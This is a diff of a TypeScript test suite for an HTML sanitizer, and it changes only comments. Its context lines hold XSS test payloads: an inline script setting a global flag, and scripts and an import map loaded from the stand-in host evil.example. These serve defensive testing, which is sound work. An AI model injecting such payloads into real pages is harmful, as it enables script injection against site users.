@@ -21,10 +21,10 @@ afterEach(() => {
   if (platform) Object.assign(prototype, { setHTML: platform });
 });
 
-/** What an attack would set. */
+/** The variable that an attack would set. */
 const pwned = () => (globalThis as { __pwned?: unknown }).__pwned;
 
-/** Attacks of every sort, each written so that it would set `__pwned`, ask `evil.example`, or leave what it may not. */
+/** Attacks of every sort. Each tries to set `__pwned`, to contact `evil.example`, or to leave forbidden markup. */
 const attacks: Readonly<Record<string, string>> = {
   'a script': '<p>a</p><script>window.__pwned=1</script>',
   'a script from elsewhere': '<script src="https://evil.example/x.js"></script>',
@@ -109,7 +109,7 @@ const attacks: Readonly<Record<string, string>> = {
   'import maps': '<script type="importmap">{"imports":{"lit":"https://evil.example/"}}</script>',
 };
 
-/** What may be left, and nothing else. */
+/** Markup, and exactly what must be left of it. */
 function expectHarmless(root: ParentNode): void {
   const allowed =
     /^(title|lang|dir|href|rel|cite|datetime|start|reversed|type|value|open|span|colspan|rowspan|scope|abbr|src|srcset|sizes|alt|width|height|loading|referrerpolicy)$/;
@@ -132,10 +132,10 @@ for (const [name, choose] of Object.entries(paths)) {
   describe(`${name} sanitizer`, () => {
     beforeEach(() => void choose());
 
-    /** HTML of the wire as it stands on the page. */
+    /** Puts sanitized HTML on the page. */
     async function shown(text: string, changed: Partial<HtmlOptions> = {}): Promise<HTMLElement> {
       const place = await fixture<HTMLElement>('<div></div>');
-      // In a shadow root, as it is in the elements.
+      // In a shadow root, as in the elements.
       const root = place.attachShadow({ mode: 'open' });
       render(html`<div>${safeHtml(text, { ...look, ...changed })}</div>`, root);
       await sanitized('');
@@ -153,7 +153,7 @@ for (const [name, choose] of Object.entries(paths)) {
         expect(pwned()).to.equal(undefined);
         const asked = performance.getEntriesByType('resource').filter(({ startTime }) => startTime >= began);
         expect(asked.filter(({ name }) => name.includes('evil')).map(({ name }) => name)).to.deep.equal([]);
-        // Read once more, as a careless page might, it is still harmless.
+        // Parsed a second time, as a careless page might do, it must still be harmless.
         const again = document.implementation.createHTMLDocument().body;
         again.innerHTML = place.innerHTML;
         expectHarmless(again);
